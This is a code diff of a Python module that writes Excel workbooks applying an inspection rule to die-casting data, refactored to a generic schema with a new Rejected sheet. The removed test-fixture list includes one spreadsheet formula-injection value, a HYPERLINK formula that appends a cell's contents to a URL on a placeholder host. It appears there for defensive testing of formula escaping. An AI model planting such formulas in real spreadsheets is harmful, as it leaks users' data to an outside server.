@@ -25,7 +25,8 @@ from __future__ import annotations
 
 import datetime as dt
 import math
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
+from dataclasses import dataclass
 from pathlib import Path
 
 import numpy as np
@@ -37,31 +38,18 @@ from openpyxl.formatting.rule import CellIsRule, FormulaRule
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
 
-from pocmvp.case import factory
-from pocmvp.case.status_quo import ECONOMICS, PlantEconomics
-from pocmvp.toolkit.rule import SHIFT_COLUMN, WORKBOOK_COLUMNS, Rule, validate_for_rule
+from pocmvp.toolkit.rule import REJECTED, Rule, account_rows
+from pocmvp.toolkit.schema import Schema, numbers, parse_time
 
-DATA_SHEET = "Shift log"
+DATA_SHEET = "Data"
 SUMMARY_SHEET = "Summary"
 RULE_SHEET = "Rule"
-FLAG_HEADER = "send_to_xray"
-FLAG_COLUMN = get_column_letter(len(WORKBOOK_COLUMNS) + 1)
-"""The letter of the rule's formula column on the data sheet."""
+REJECTED_SHEET = "Rejected"
+FLAG_HEADER = "flag"
 
 HIGHLIGHT = PatternFill(start_color="FFE69F00", end_color="FFE69F00", fill_type="solid")
 OVER_CAPACITY = PatternFill(start_color="FFD55E00", end_color="FFD55E00", fill_type="solid")
 _BOLD = Font(bold=True)
-_WIDTHS = {"part_id": 13, "cast_at": 17, "alloy_lot": 11, "shots_since_maintenance": 12}
-_FORMATS = {
-    "cast_at": "yyyy-mm-dd hh:mm",
-    "shots_since_maintenance": "#,##0",
-    "melt_temp_c": "0.0",
-    "die_temp_c": "0.0",
-    "cycle_time_s": "0.0",
-    "scrap_share_pct": "0.0",
-    "humidity_pct": "0.0",
-}
-_FIELDS = {f.name: f for f in factory.SHIFT_LOG_FIELDS}
 
 # Summary sheet: the cells the overall figures live in (label in A, value in B).
 SUMMARY_CELLS = {
@@ -74,35 +62,76 @@ SUMMARY_CELLS = {
 }
 MONTH_TABLE_FIRST_ROW = 12
 """First row of the summary's per-month table (month, from, to, parts, flagged, capacity,
-capacity used), one row per month in the workbook."""
+capacity used), one row per month in the workbook (only with a time column)."""
+
+
+def flag_column(schema: Schema) -> str:
+    """The letter of the rule's formula column on the data sheet."""
+    return get_column_letter(len(schema.columns) + 1)
 
 
 def write_rule_workbook(
-    shift_log: pd.DataFrame,
+    table: pd.DataFrame,
     rule: Rule,
     path: str | Path,
     *,
-    economics: PlantEconomics = ECONOMICS,
+    schema: Schema,
+    capacity: float,
     notes: Sequence[str] = (),
+    data_sheet: str = DATA_SHEET,
+    flag_header: str = FLAG_HEADER,
+    widths: Mapping[str, int] | None = None,
+    labels: Mapping[str, str] | None = None,
 ) -> Path:
-    """Write the rule workbook for ``shift_log`` to ``path`` and return the path.
+    """Write the rule workbook for ``table`` to ``path`` and return the path.
 
-    The shift log is validated first (:func:`pocmvp.toolkit.rule.validate_for_rule`); truth columns
-    may be present and are left out. ``notes`` are extra lines for the Rule sheet (e.g. the
-    months the rule was chosen on).
+    Every row is first decided with :func:`pocmvp.toolkit.rule.account_rows`: the accepted
+    rows go to the data sheet in input order (the ``schema.columns``, then the live formula
+    column ``flag_header``), the rejected ones to the **Rejected** sheet with their reason.
+    ``capacity`` is the share of rows the test can take; ``notes`` are extra lines for the
+    Rule sheet; ``widths`` sets columns' widths;
+    ``labels`` may rename the summary's "rows" (e.g. ``{"rows": "parts"}``).
     """
-    validate_for_rule(shift_log, rule)
     path = Path(path)
     path.parent.mkdir(parents=True, exist_ok=True)
+    rule = Rule(rule.conditions, schema)
+    accounting = account_rows(table, rule, schema)
+    rejected = accounting.decisions["decision"] == REJECTED
+    accepted = table.loc[~rejected.to_numpy()].copy()
+    for column in rule.columns:  # text in a rule column only ever rejects its own row
+        accepted[column] = numbers(accepted[column])[0]
+    if schema.time is not None and schema.time in accepted.columns:
+        accepted[schema.time] = parse_time(accepted[schema.time])
+    layout = _Layout(schema, data_sheet, flag_header, widths or {}, labels or {})
     book = Workbook(write_only=True)
-    data = book.create_sheet(DATA_SHEET)
-    _write_data_sheet(data, shift_log, rule)
-    summary = book.create_sheet(SUMMARY_SHEET)
-    _write_summary_sheet(summary, shift_log, economics)
-    explained = book.create_sheet(RULE_SHEET)
-    _write_rule_sheet(explained, rule, economics, notes)
+    _write_data_sheet(book.create_sheet(data_sheet), accepted, rule, layout)
+    _write_summary_sheet(book.create_sheet(SUMMARY_SHEET), accepted, capacity, layout)
+    _write_rule_sheet(book.create_sheet(RULE_SHEET), rule, capacity, notes, layout)
+    _write_rejected_sheet(
+        book.create_sheet(REJECTED_SHEET),
+        table.loc[rejected.to_numpy()],
+        accounting.decisions.loc[rejected, "reason"],
+        np.flatnonzero(rejected.to_numpy()) + 1,
+        layout,
+    )
     book.save(path)
     return path
+
+
+@dataclass(frozen=True)
+class _Layout:
+    schema: Schema
+    data_sheet: str
+    flag_header: str
+    widths: Mapping[str, int]
+    labels: Mapping[str, str]
+
+    @property
+    def flag_column(self) -> str:
+        return flag_column(self.schema)
+
+    def word(self, key: str) -> str:
+        return self.labels.get(key, key)
 
 
 def _text(sheet, value: str, **style) -> WriteOnlyCell:
@@ -114,33 +143,64 @@ def _text(sheet, value: str, **style) -> WriteOnlyCell:
     return cell
 
 
-def _write_data_sheet(sheet, shift_log: pd.DataFrame, rule: Rule) -> None:
-    last_row = len(shift_log) + 1
-    headers = [*WORKBOOK_COLUMNS, FLAG_HEADER]
+_FORMATS: dict[str, str] = {}
+"""Number formats by column name (none: General; dates ``yyyy-mm-dd hh:mm``)."""
+
+
+def _write_data_sheet(sheet, table: pd.DataFrame, rule: Rule, layout: _Layout) -> None:
+    columns = list(layout.schema.columns)
+    flag = layout.flag_column
+    last_row = len(table) + 1
+    headers = [*columns, layout.flag_header]
     for index, name in enumerate(headers, start=1):
-        width = _WIDTHS.get(name, min(max(10, len(name) + 2), 26))
+        width = layout.widths.get(name, min(max(10, len(name) + 2), 26))
         sheet.column_dimensions[get_column_letter(index)].width = width
     sheet.freeze_panes = "A2"
-    sheet.auto_filter.ref = f"A1:{FLAG_COLUMN}{last_row}"
-    if rule.scoped:
-        shift = get_column_letter(WORKBOOK_COLUMNS.index(SHIFT_COLUMN) + 1)
-        known = ",".join(f'EXACT(${shift}2,"{name}")' for name in factory.SHIFTS)
+    sheet.auto_filter.ref = f"A1:{flag}{last_row}"
+    schema = layout.schema
+    for scope in rule.scope_columns:
+        if scope != schema.scope or not schema.scope_values:
+            continue
+        letter = get_column_letter(columns.index(scope) + 1)
+        known = ",".join(
+            f'EXACT(${letter}2,"{v.replace(chr(34), chr(34) * 2)}")' for v in schema.scope_values
+        )
         sheet.conditional_formatting.add(
-            f"{shift}2:{shift}{last_row}",
+            f"{letter}2:{letter}{last_row}",
             FormulaRule(formula=[f"NOT(OR({known}))"], fill=OVER_CAPACITY),
         )
     sheet.conditional_formatting.add(
-        f"A2:{FLAG_COLUMN}{last_row}",
-        FormulaRule(formula=[f"${FLAG_COLUMN}2=TRUE"], fill=HIGHLIGHT),
+        f"A2:{flag}{last_row}",
+        FormulaRule(formula=[f"${flag}2=TRUE"], fill=HIGHLIGHT),
     )
     sheet.append([_text(sheet, h, font=_BOLD) for h in headers])
 
-    writers = [_column_writer(sheet, name, shift_log[name]) for name in WORKBOOK_COLUMNS]
-    columns = [w[1] for w in writers]
-    for offset, values in enumerate(zip(*columns, strict=True)):
-        row = [make(v) for make, v in zip((w[0] for w in writers), values, strict=True)]
-        row.append(rule.excel_formula(offset + 2))
+    writers = [_column_writer(sheet, name, table[name]) for name in columns]
+    values = [w[1] for w in writers]
+    for offset, row_values in enumerate(zip(*values, strict=True)):
+        row = [make(v) for make, v in zip((w[0] for w in writers), row_values, strict=True)]
+        row.append(rule.excel_formula(offset + 2, columns))
         sheet.append(row)
+
+
+def _write_rejected_sheet(
+    sheet, rejected: pd.DataFrame, reasons: pd.Series, rows: np.ndarray, layout: _Layout
+) -> None:
+    """Every rejected row as it came in (the schema's columns, as text), with its reason and
+    its position in the input (1 = the first data row)."""
+    columns = [c for c in layout.schema.columns if c in rejected.columns]
+    headers = ["input row", "reason", *columns]
+    for index, name in enumerate(headers, start=1):
+        width = 44 if name == "reason" else min(max(10, len(name) + 2), 26)
+        sheet.column_dimensions[get_column_letter(index)].width = width
+    sheet.freeze_panes = "A2"
+    sheet.append([_text(sheet, h, font=_BOLD) for h in headers])
+    positions = [int(i) for i in rows]
+    writers = [_column_writer(sheet, name, rejected[name].astype(object)) for name in columns]
+    values = [w[1] for w in writers]
+    for position, reason, *row_values in zip(positions, reasons.astype(str), *values, strict=True):
+        row = [make(v) for make, v in zip((w[0] for w in writers), row_values, strict=True)]
+        sheet.append([position, _text(sheet, reason), *row])
 
 
 def _column_writer(sheet, name: str, values: pd.Series):
@@ -188,19 +248,21 @@ def _missing(value: object) -> bool:
     return value is None or (isinstance(value, float) and math.isnan(value)) or value is pd.NA
 
 
-def _months(shift_log: pd.DataFrame) -> list[tuple[str, dt.datetime, dt.datetime]]:
-    first_days = sorted(shift_log["cast_at"].dt.to_period("M").unique())
+def _months(times: pd.Series) -> list[tuple[str, dt.datetime, dt.datetime]]:
+    first_days = sorted(times.dropna().dt.to_period("M").unique())
     return [
         (str(p), p.start_time.to_pydatetime(), (p + 1).start_time.to_pydatetime())
         for p in first_days
     ]
 
 
-def _write_summary_sheet(sheet, shift_log: pd.DataFrame, economics: PlantEconomics) -> None:
-    last_row = len(shift_log) + 1
-    ids = f"'{DATA_SHEET}'!$A$2:$A${last_row}"
-    dates = f"'{DATA_SHEET}'!$B$2:$B${last_row}"
-    flags = f"'{DATA_SHEET}'!${FLAG_COLUMN}$2:${FLAG_COLUMN}${last_row}"
+def _write_summary_sheet(sheet, table: pd.DataFrame, capacity: float, layout: _Layout) -> None:
+    last_row = len(table) + 1
+    data = layout.data_sheet.replace("'", "''")
+    columns = list(layout.schema.columns)
+    flag = layout.flag_column
+    rows_word = layout.word("rows")
+    flags = f"'{data}'!${flag}$2:${flag}${last_row}"
     for letter, width in zip("ABCDEFG", (38, 14, 14, 10, 10, 10, 14), strict=True):
         sheet.column_dimensions[letter].width = width
     c = SUMMARY_CELLS
@@ -208,41 +270,42 @@ def _write_summary_sheet(sheet, shift_log: pd.DataFrame, economics: PlantEconomi
         c["capacity_used"], CellIsRule(operator="greaterThan", formula=["1"], fill=OVER_CAPACITY)
     )
     rows = [
-        [_text(sheet, "The rule's load on the X-ray cell", font=Font(bold=True, size=14))],
-        [_text(sheet, "Every figure is a live formula over the Shift log sheet.")],
-        [_text(sheet, "Parts in this workbook"), f"=COUNTA({ids})"],
-        [_text(sheet, "Parts to test (flagged by the rule)"), f"=COUNTIF({flags},TRUE)"],
+        [_text(sheet, "The rule's load on the test", font=Font(bold=True, size=14))],
+        [_text(sheet, f"Every figure is a live formula over the {layout.data_sheet} sheet.")],
+        [_text(sheet, f"{rows_word.capitalize()} in this workbook"), f"=COUNTA({flags})"],
+        [_text(sheet, f"{rows_word.capitalize()} to test (flagged)"), f"=COUNTIF({flags},TRUE)"],
         [
-            _text(sheet, "Share of parts flagged"),
+            _text(sheet, f"Share of {rows_word} flagged"),
             _styled(sheet, f"=IF({c['parts']}>0,{c['flagged']}/{c['parts']},0)", "0.0%"),
         ],
         [
-            _text(sheet, "X-ray capacity (share of each month's parts)"),
-            _styled(sheet, economics.inspection_capacity_share, "0.0%"),
+            _text(sheet, f"Test capacity (share of each month's {rows_word})"),
+            _styled(sheet, capacity, "0.0%"),
         ],
-        [_text(sheet, "X-ray capacity (parts)"), f"=INT({c['parts']}*{c['capacity_share']})"],
+        [_text(sheet, f"Test capacity ({rows_word})"), f"=INT({c['parts']}*{c['capacity_share']})"],
         [
             _text(sheet, "Capacity used (over 100 % means more flags than tests)"),
             _styled(sheet, f"=IF({c['capacity']}>0,{c['flagged']}/{c['capacity']},0)", "0%"),
         ],
-        [],
-        [_text(sheet, "Per month", font=_BOLD)],
-        [
-            _text(sheet, h, font=_BOLD)
-            for h in (
-                "month",
-                "from",
-                "to (excluded)",
-                "parts",
-                "flagged",
-                "capacity",
-                "capacity used",
-            )
-        ],
     ]
+    time = layout.schema.time
+    if time is not None and time in columns and len(table):
+        rows += [
+            [],
+            [_text(sheet, "Per month", font=_BOLD)],
+            [
+                _text(sheet, h, font=_BOLD)
+                for h in ("month", "from", "to (excluded)", "parts", "flagged", "capacity")
+                + ("capacity used",)
+            ],
+        ]
     for row in rows:
         sheet.append(row)
-    months = _months(shift_log)
+    if time is None or time not in columns or not len(table):
+        return
+    letter = get_column_letter(columns.index(time) + 1)
+    dates = f"'{data}'!${letter}$2:${letter}${last_row}"
+    months = _months(table[time])
     first = MONTH_TABLE_FIRST_ROW
     if months:
         span = f"G{first}:G{first + len(months) - 1}"
@@ -271,113 +334,61 @@ def _styled(sheet, value, number_format: str) -> WriteOnlyCell:
     return cell
 
 
-def _write_rule_sheet(sheet, rule: Rule, economics: PlantEconomics, notes: Sequence[str]) -> None:
+def _write_rule_sheet(
+    sheet, rule: Rule, capacity: float, notes: Sequence[str], layout: _Layout
+) -> None:
+    from pocmvp.toolkit.sql import select
+
     sheet.column_dimensions["A"].width = 28
     sheet.column_dimensions["B"].width = 100
     wrap = Alignment(wrap_text=True, vertical="top")
+    schema = layout.schema
+    rows_word = layout.word("rows")
     lines = [
-        ("The rule", rule.describe()),
-        ("Formula (row 2)", rule.excel_formula(2)),
-        ("SQL", "SELECT * FROM shift_log WHERE " + rule.sql_where()),
+        ("The rule", rule.describe(schema)),
+        ("Formula (row 2)", rule.excel_formula(2, schema.columns)),
+        ("SQL", select(rule, "data")),
         (
             "Missing values",
-            "An empty cell (a value that was not recorded) never sends a part to the test on "
-            "its own; another condition of the rule still can. Text in a number column "
-            "counts as missing here: fix the entry.",
+            "An empty cell (a value that was not recorded) never flags a row on its own; "
+            "another condition of the rule still can. A row with text in a number column the "
+            "rule reads is not on this sheet: it is on the Rejected sheet, with the reason.",
         ),
-        *_shift_lines(rule),
+        *_scope_lines(rule, schema),
         (
             "Capacity",
-            f"The X-ray cell tests {economics.inspection_capacity_share:.0%} of each month's "
-            "parts. The Summary sheet shows how much of it the rule uses.",
+            f"The test takes {capacity:.0%} of each month's {rows_word}. The Summary sheet "
+            "shows how much of it the rule uses.",
         ),
         (
             "How to use",
-            f"Filter column {FLAG_COLUMN} ({FLAG_HEADER}) on TRUE: "
-            "those parts go to the X-ray test.",
+            f"Filter column {layout.flag_column} ({layout.flag_header}) on TRUE: "
+            f"those {rows_word} go to the test.",
         ),
         *[("Note", note) for note in notes],
         ("", ""),
         ("Column", "Meaning"),
-        *[(name, _describe_field(name)) for name in rule.input_columns],
+        *[(name, schema.meaning(name)) for name in rule.input_columns],
     ]
     sheet.append([_text(sheet, "The rule in plain words", font=Font(bold=True, size=14))])
     for label, text in lines:
         sheet.append([_text(sheet, label, font=_BOLD), _text(sheet, text, alignment=wrap)])
 
 
-def _shift_lines(rule: Rule) -> list[tuple[str, str]]:
-    """How a rule scoped to shifts reads the shift column (nothing for an unscoped rule)."""
-    if not rule.scoped:
-        return []
-    names = ", ".join(factory.SHIFTS)
-    return [
-        (
-            "Shifts",
-            "A condition 'on the night shift' (or another shift) applies only to rows whose "
-            f"shift cell holds exactly that shift's name, in lower case ({names}). A shift "
-            "cell marked red holds none of these names: only the conditions for every shift "
-            "can send that part, so correct the entry.",
+def _scope_lines(rule: Rule, schema: Schema) -> list[tuple[str, str]]:
+    """How a scoped rule reads its scope column (nothing for an unscoped rule)."""
+    lines = []
+    for scope in rule.scope_columns:
+        known = ""
+        if scope == schema.scope and schema.scope_values:
+            known = f" ({', '.join(schema.scope_values)})"
+        lines.append(
+            (
+                f"{scope.capitalize()}s",
+                f"A condition 'on the ... {scope}' applies only to rows whose {scope} cell "
+                f"holds exactly that {scope}'s name, case and spaces included{known}. A "
+                f"{scope} cell marked red holds none of these names: only the conditions for "
+                "every row can flag it, so correct the entry.",
+            )
         )
-    ]
-
-
-def _describe_field(name: str) -> str:
-    field = _FIELDS[name]
-    unit = f" ({field.unit})" if field.unit else ""
-    return f"{field.meaning}{unit}"
-
-
-TRICKY_TEXTS = (
-    '=HYPERLINK("http://x.example/?"&A2,"x")',
-    "=1+1",
-    "+1+1",
-    "-2+3",
-    "@SUM(1,1)",
-    "Gießerei Süd",
-    "合金",
-    "TRUE",
-    "'quoted",
-)
-"""Text that a careless writer would turn into formulas, numbers or mojibake."""
-
-
-def tricky_rows(shift_log: pd.DataFrame, rule: Rule) -> pd.DataFrame:
-    """Valid shift-log rows built to trip a spreadsheet, from the first rows of ``shift_log``:
-    each rule column exactly at its threshold and one recorded step to either side, missing
-    where the column may be missing (for a condition scoped to shifts: on one of its shifts
-    and on a shift outside its scope), and text that starts with ``= + - @`` or is not ASCII.
-    """
-    rows = []
-    template = shift_log.iloc[0]
-    for condition in rule.conditions:
-        field = _FIELDS[condition.column]
-        step = 1.0 if field.dtype == "int64" else 0.1
-        values = [condition.threshold + d * step for d in (-1, 0, 1)]
-        if field.nullable:
-            values.append(np.nan)
-        shifts = [template[SHIFT_COLUMN]]
-        if condition.scoped:
-            outside = [s for s in factory.SHIFTS if s not in condition.shifts]
-            shifts = [condition.shifts[0], *outside[:1]]
-        for value in values:
-            for shift in shifts:
-                row = template.copy()
-                row[condition.column] = value
-                row[SHIFT_COLUMN] = shift
-                rows.append(row)
-    nothing = template.copy()
-    for condition in rule.conditions:
-        if _FIELDS[condition.column].nullable:
-            nothing[condition.column] = np.nan
-    rows.append(nothing)
-    text_columns = ("supplier", "alloy_lot", "mould_id", "cell")
-    for index, text in enumerate(TRICKY_TEXTS):
-        row = shift_log.iloc[(index + 1) % len(shift_log)].copy()
-        for column in text_columns:
-            row[column] = text
-        rows.append(row)
-    tricky = pd.DataFrame(rows).reset_index(drop=True)
-    tricky["part_id"] = [f"T-{i:04d}" for i in range(len(tricky))]
-    tricky.loc[len(tricky) - 1, "part_id"] = "=A1"  # an id that looks like a formula
-    return tricky.astype(shift_log.dtypes.to_dict())
+    return lines
